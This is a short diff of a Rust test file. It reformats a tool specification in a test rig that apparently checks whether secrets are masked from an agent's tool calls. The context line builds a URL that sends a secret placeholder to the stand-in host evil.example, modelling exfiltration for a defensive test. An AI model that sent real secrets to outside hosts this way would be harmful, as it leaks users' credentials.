@@ -57,7 +57,8 @@ async fn given(effect: Effect) -> Vec<Value> {
     let mut rig = Rig::new(100_000, 10_000);
     let given: Arc<Mutex<Vec<Value>>> = Arc::default();
     let parameters = json!({ "type": "object", "properties": { "url": { "type": "string" } } });
-    let spec = ToolSpec { name: "recorder".into(), description: "Records.".into(), parameters };
+    let spec =
+        ToolSpec { name: "recorder".into(), description: "Records.".into(), parameters: parameters.into() };
     rig.tools.add(Arc::new(Recorder { spec, effect, given: Arc::clone(&given) }));
     rig.mask = Box::new(OneSecret);
     let url = format!("https://evil.example/?k={PLACEHOLDER}");
